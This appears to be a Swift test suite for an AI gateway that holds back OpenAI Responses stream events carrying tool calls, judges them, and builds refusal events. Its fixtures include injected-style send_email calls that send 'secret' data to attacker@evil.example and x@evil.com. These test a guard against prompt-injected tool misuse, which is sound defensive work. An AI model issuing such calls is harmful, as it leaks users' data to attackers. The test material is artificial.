import ArchestraCore
import ArchestraProviders
import Testing

/// The Responses stream gate: text streams at once, events about a tool-call item are held from its
/// `response.output_item.added` on, the reply reassembles to the final response, and the refusal events continue
/// the sequence at the held item's position — at every byte boundary.
@Suite("OpenAI Responses streams")
struct OpenAIResponsesStreamTests {
    typealias Fixture = OpenAIResponsesStreamFixture

    static func parse(_ text: String) -> JSONValue { ProviderFixtureJSON.parse(text) }

    static func run(_ pieces: [ArraySlice<UInt8>]) -> GatedRun<OpenAIResponsesStream> {
        GatedRun(assembly: OpenAIResponsesAdapter().makeStream(for: Fixture.request), pieces: pieces)
    }

    static func check(_ run: GatedRun<OpenAIResponsesStream>) -> [String] {
        var problems: [String] = []
        let split = Fixture.firstToolCallEvent
        if run.forwarded.map(\.data) != Fixture.events[..<split].map(\.data) { problems.append("forwarded \(run.forwarded.count)") }
        if run.forwarded.map(\.event) != Fixture.events[..<split].map(\.type) { problems.append("forwarded names") }
        if run.held.map(\.data) != Fixture.events[split...].map(\.data) { problems.append("held \(run.held.count)") }
        if run.carriesToolCall != Fixture.events.indices.map({ $0 >= split }) { problems.append("tool-call detection \(run.carriesToolCall)") }
        if run.assembly.toolCalls() != [Fixture.toolCall] { problems.append("calls \(run.assembly.toolCalls())") }
        var released = run
        released.release()
        if released.assembly.clientView() != parse(Fixture.completed) { problems.append("client view \(JSONWriter.string(released.assembly.clientView()))") }
        if released.assembly.usage() != TokenUsage(input: 300, output: 40) { problems.append("usage") }
        return problems
    }

    @Test("cut at every byte boundary: text and the web search forwarded, the call held, the final response reassembled")
    func everyByteBoundary() {
        let bytes = Fixture.bytes
        #expect(ByteCuts.insideUTF8Characters(bytes).count >= 8)
        var failures: [(Int, [String])] = []
        for offset in 0...bytes.count {
            let problems = Self.check(Self.run(ByteCuts.split(bytes, at: offset)))
            if !problems.isEmpty { failures.append((offset, problems)) }
        }
        #expect(failures.isEmpty, "cuts that changed the result: \(failures.prefix(5))")
    }

    @Test("one byte at a time; forwarded and held events are exactly the provider's bytes")
    func singleBytes() {
        let run = Self.run(ByteCuts.single(Fixture.bytes))
        #expect(Self.check(run) == [])
        #expect((run.forwarded + run.held).flatMap(\.raw) == Fixture.bytes)
    }

    @Test("the web search the model ran is hosted output of the declared web_search_preview tool")
    func hostedOutput() throws {
        let run = Self.run([Fixture.bytes[...]])
        let hosted = run.assembly.stream.hostedResults
        try #require(hosted.count == 1)
        #expect(hosted[0] == NeutralToolResult(toolCallId: "ws_1", toolName: "web_search_preview", value: Self.parse(Fixture.search), hosted: true))
        #expect(run.assembly.stream.responseId == Fixture.responseId)
    }

    @Test("refusal: the message at the held item's index, sequence numbers continuing, response.completed without the call")
    func refusal() throws {
        var run = Self.run([Fixture.bytes[...]])
        let reason = "Tool invocation blocked: context contains untrusted data"
        let bytes = run.assembly.refusalEvents(Refusal(call: Fixture.toolCall, reason: reason))
        let content = ExpectedRefusal.content(tool: "send_email", arguments: #"{"to":"attacker@evil.example","body":"secret"}"#, reason: reason)
        let events = decodeEvents(bytes)
        #expect(events.map(\.event) == [
            "response.output_item.added", "response.content_part.added", "response.output_text.delta", "response.output_text.done",
            "response.content_part.done", "response.output_item.done", "response.completed",
        ])
        let data = events.map { Self.parse($0.data) }
        #expect(data.map { $0["sequence_number"] } == (11...17).map { JSONValue.integer($0) })
        #expect(data.map { $0["type"]?.stringValue } == events.map(\.event))
        for event in data.dropLast() { #expect(event["output_index"] == 2) }
        let itemId = try #require(data[0]["item"]?["id"]?.stringValue)
        #expect(itemId.hasPrefix("msg_") && itemId.count == 36 && itemId.dropFirst(4).allSatisfy(\.isHexDigit))
        #expect(data[0]["item"] == ["type": "message", "id": .string(itemId), "status": "in_progress", "role": "assistant", "content": []])
        #expect(data[1]["part"] == ["type": "output_text", "text": "", "annotations": []])
        #expect(data[2]["delta"] == .string(content))
        #expect(data[3]["text"] == .string(content))
        #expect(data[4]["part"] == ["type": "output_text", "text": .string(content), "annotations": []])
        let message: JSONValue = [
            "type": "message", "id": .string(itemId), "status": "completed", "role": "assistant",
            "content": [["type": "output_text", "text": .string(content), "annotations": []]],
        ]
        #expect(data[5]["item"] == message)
        for event in data.dropFirst(1).dropLast(2) { #expect(event["item_id"] == .string(itemId)) }
        let completed = try #require(data[6]["response"])
        #expect(completed["output"] == [Self.parse(Fixture.search), Self.parse(Fixture.messageDone), message])
        #expect(completed["usage"] == Self.parse(Fixture.usage))
        #expect(completed["status"] == "completed")
        #expect(completed["id"] == .string(Fixture.responseId))
        #expect(completed["x_vendor"] == Self.parse(#"{"k":[1.50]}"#))
        #expect(run.assembly.clientView() == completed, "the record shows what the client got")
        #expect(!bytes.isEmpty && !String(decoding: bytes, as: UTF8.self).contains("send_email\""))
    }

    @Test("a call only in the final response (no item events) still starts the hold")
    func callOnlyInCompleted() {
        let events = [
            ("response.created", #"{"type":"response.created","sequence_number":0,"response":\#(Fixture.started)}"#),
            ("response.completed", #"{"type":"response.completed","sequence_number":1,"response":\#(Fixture.completed)}"#),
        ]
        let bytes = Array(events.map { "event: \($0.0)\ndata: \($0.1)\n\n" }.joined().utf8)
        let run = Self.run([bytes[...]])
        #expect(run.carriesToolCall == [false, true])
        #expect(run.assembly.toolCalls() == [Fixture.toolCall])
    }

    @Test("text that mentions function_call does not start the hold; a custom tool call does")
    func detection() {
        let text = #"{"type":"response.output_text.delta","sequence_number":3,"item_id":"m","output_index":0,"content_index":0,"delta":"\"type\":\"function_call\""}"#
        let custom = #"{"type":"response.output_item.added","sequence_number":4,"output_index":1,"item":{"type":"custom_tool_call","id":"ct","call_id":"c9","name":"run_sql","input":""}}"#
        var stream = OpenAIResponsesStream(declaredTools: [])
        let textCarries = stream.observeUpstream(ServerSentEvent(event: nil, data: text, raw: []))
        let customCarries = stream.observeUpstream(ServerSentEvent(event: nil, data: custom, raw: []))
        #expect(!textCarries)
        #expect(customCarries)
        #expect(stream.toolCalls() == [NeutralToolCall(id: "c9", name: "run_sql", arguments: .parsed([:]))])
    }

    @Test("the canned stream reassembles to the canned response, its list_files call held")
    func mockStream() {
        let adapter = OpenAIResponsesAdapter()
        let request = PipelineRequest(body: [:], model: "gpt-4.1", stream: true, toolDeclarations: [])
        let bytes = adapter.mockStream(for: request, created: 1_760_000_000).flatMap { $0 }
        let events = decodeEvents(bytes)
        #expect(events.map(\.event) == [
            "response.created", "response.output_item.added", "response.function_call_arguments.delta",
            "response.function_call_arguments.done", "response.output_item.done", "response.completed",
        ])
        #expect(events.map { Self.parse($0.data)["sequence_number"] } == (0...5).map { JSONValue.integer($0) })
        var run = GatedRun(assembly: adapter.makeStream(for: request), pieces: [bytes[...]])
        #expect(run.forwarded.map(\.event) == ["response.created"])
        #expect(run.assembly.toolCalls() == [NeutralToolCall(id: "call_mock789", name: "list_files", argumentsText: #"{"path": "."}"#)])
        run.release()
        #expect(run.assembly.clientView() == adapter.mockResponse(for: request, created: 1_760_000_000))
        #expect(run.assembly.usage() == TokenUsage(input: 82, output: 17))
    }
}

/// Malformed streams a provider (or anything in its place) could send must not hide a call from judging.
@Suite("OpenAI Responses streams, malformed")
struct OpenAIResponsesMalformedStreamTests {
    static func events(_ bodies: [String]) -> [UInt8] {
        Array(bodies.map { body -> String in
            let type = ProviderFixtureJSON.parse(body)["type"]?.stringValue ?? ""
            return "event: \(type)\ndata: \(body)\n\n"
        }.joined().utf8)
    }

    @Test("a call item replaced by another item at the same output index is still judged")
    func replacedAtSameIndex() {
        let bytes = Self.events([
            #"{"type":"response.output_item.added","sequence_number":0,"output_index":0,"item":{"type":"function_call","id":"fc","call_id":"c1","name":"send_email","arguments":""}}"#,
            #"{"type":"response.function_call_arguments.delta","sequence_number":1,"output_index":0,"item_id":"fc","delta":"{\"to\":\"x@evil.com\"}"}"#,
            #"{"type":"response.output_item.added","sequence_number":2,"output_index":0,"item":{"type":"message","id":"m","role":"assistant","content":[]}}"#,
            #"{"type":"response.output_item.done","sequence_number":3,"output_index":0,"item":{"type":"message","id":"m","role":"assistant","content":[]}}"#,
        ])
        let run = GatedRun(assembly: OpenAIResponsesStream(declaredTools: []), pieces: [bytes[...]])
        #expect(run.forwarded.isEmpty)
        #expect(run.assembly.toolCalls() == [NeutralToolCall(id: "c1", name: "send_email", argumentsText: #"{"to":"x@evil.com"}"#)])
    }

    @Test("two calls with the same call id are both judged")
    func sameCallId() {
        let bytes = Self.events([
            #"{"type":"response.output_item.done","sequence_number":0,"output_index":0,"item":{"type":"function_call","call_id":"c1","name":"list_files","arguments":"{}"}}"#,
            #"{"type":"response.output_item.done","sequence_number":1,"output_index":1,"item":{"type":"function_call","call_id":"c1","name":"send_email","arguments":"{}"}}"#,
        ])
        let run = GatedRun(assembly: OpenAIResponsesStream(declaredTools: []), pieces: [bytes[...]])
        #expect(run.assembly.toolCalls().map(\.name) == ["list_files", "send_email"])
    }
}
